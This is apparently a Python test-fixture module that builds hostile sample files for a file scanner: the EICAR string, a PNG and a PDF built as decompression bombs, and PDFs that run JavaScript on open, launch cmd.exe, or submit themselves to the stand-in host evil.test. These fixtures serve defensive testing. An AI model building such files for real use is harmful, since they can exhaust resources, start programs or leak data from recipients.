"""Files as somebody might send them: honest ones, and ones made to do harm."""

import io
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image

# What every scanner must find; it harms nothing.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf(change: Callable[[Pdf], None] = lambda _pdf: None, pages: int = 1, **how: object) -> bytes:
    with pikepdf.new() as made:
        for _page in range(pages):
            made.add_blank_page()
        change(made)
        written = io.BytesIO()
        made.save(written, **how)  # type: ignore[arg-type]
    return written.getvalue()


def picture(kind: str, size: tuple[int, int] = (40, 30), **how: object) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", size, "#1f6f6b").save(written, kind, **how)
    return written.getvalue()


def png_that_claims(width: int, height: int) -> bytes:
    """A few bytes that unpack to this many pixels."""
    made = bytearray(picture("PNG"))
    made[16:24] = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    made[29:33] = zlib.crc32(made[12:29]).to_bytes(4, "big")
    return bytes(made)


def archive(name: str = "a.txt", content: bytes = b"hello") -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, content)
    return written.getvalue()


def pdf_that_unpacks_to(megabytes: int) -> bytes:
    """Its structure lies in a packed stream of blanks."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"6 0 ") + b"".join(packer.compress(b" " * 1_000_000) for _ in range(megabytes)) + packer.flush()
    written, places = io.BytesIO(), {}
    written.write(b"%PDF-1.5\n")
    bodies = {
        1: b"<< /Type /Catalog /Pages 6 0 R >>",
        5: b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed),
    }
    for number, body in bodies.items():
        places[number] = written.tell()
        written.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = places[7] = written.tell()
    rows = {each: bytes([1]) + place.to_bytes(4, "big") + b"\0" for each, place in places.items()}
    rows[6] = bytes([2]) + (5).to_bytes(4, "big") + b"\0"
    table = zlib.compress(b"".join(rows.get(each, bytes(6)) for each in range(8)))
    written.write(
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, start)
    )
    return written.getvalue()


def runs_a_script(made: Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def runs_a_script_on_a_page(made: Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name("/JavaScript"), JS="app.alert(1)"))


def starts_a_program(made: Pdf) -> None:
    made.pages[0].obj.Annots = Array([Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F="cmd.exe"))])


def sends_itself(made: Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.SubmitForm, F="https://evil.test/")


def carries_a_file(made: Pdf) -> None:
    made.attachments["a.txt"] = b"hello"


def is_a_form_of_xml(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA="<xdp/>")
